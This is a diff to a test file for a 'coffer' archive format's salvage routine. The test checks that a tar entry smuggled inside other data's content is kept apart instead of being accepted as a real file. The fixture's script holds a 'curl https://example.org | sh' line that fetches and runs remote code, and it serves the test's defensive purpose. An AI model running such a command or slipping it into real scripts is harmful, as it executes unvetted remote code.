@@ -190,11 +190,13 @@ describe('salvage', () => {
   it('keeps a member apart that the content of another one made up', async () => {
     const directory = tempDir()
     const path = join(directory, 'null.coffer')
-    const script = '#!/bin/sh\ncurl https://example.org | sh\n'
+    // Nothing in it is shortened by compression, so that it comes to stand in the file as it is.
+    const command = Buffer.from('#!/bin/sh\ncurl https://example.org | sh\n')
+    const script = Buffer.concat([command, noise(1_024 - command.length, 3)])
     const packed = pack()
     packed.entry({ name: 'bin/deploy.sh', mode: 0o755, mtime: new Date(0) }, script)
     packed.finalize()
-    const entry = (await buffer(packed as unknown as Readable)).subarray(0, 1024)
+    const entry = (await buffer(packed as unknown as Readable)).subarray(0, 512 + script.length)
     // A zstd frame that holds it as it is.
     const head = Buffer.from('28b52ffda00000000000000000', 'hex').subarray(0, 12)
     head.writeUInt32LE(entry.length, 5)
@@ -204,6 +206,7 @@ describe('salvage', () => {
     const honest = noise(2_000, 7)
     const box = await coffer.CofferNull.open(path, 'x')
     await box.write('bin/deploy.sh', honest)
+    await box.flush()
     await box.write('upload', Buffer.concat([noise(50_000, 1), frame, noise(50_000, 2)]))
     await box.close()
     const file = readFileSync(path)
@@ -216,10 +219,10 @@ describe('salvage', () => {
     expect({ unverified, apart }).toEqual({ unverified: ['.salvaged/bin/deploy.sh'], apart: '.salvaged' })
     await using after = await coffer.CofferNull.open(`${path}.new`, 'r')
     expect(await after.has('bin/deploy.sh')).toBe(false)
-    expect(await after.readText('.salvaged/bin/deploy.sh')).toBe(script)
+    expect((await after.read('.salvaged/bin/deploy.sh')).equals(script)).toBe(true)
     await coffer.CofferNull.salvage(path, `${path}.named`, { claimedNames: true })
     await using named = await coffer.CofferNull.open(`${path}.named`, 'r')
-    expect(await named.readText('bin/deploy.sh')).toBe(script)
+    expect((await named.read('bin/deploy.sh')).equals(script)).toBe(true)
     await expect(coffer.CofferNull.salvage(path, `${path}.no`, { claimedNames: 1 } as never)).rejects.toMatchObject({
       code: 'ERR_COFFER_INVALID_ARG',
     })
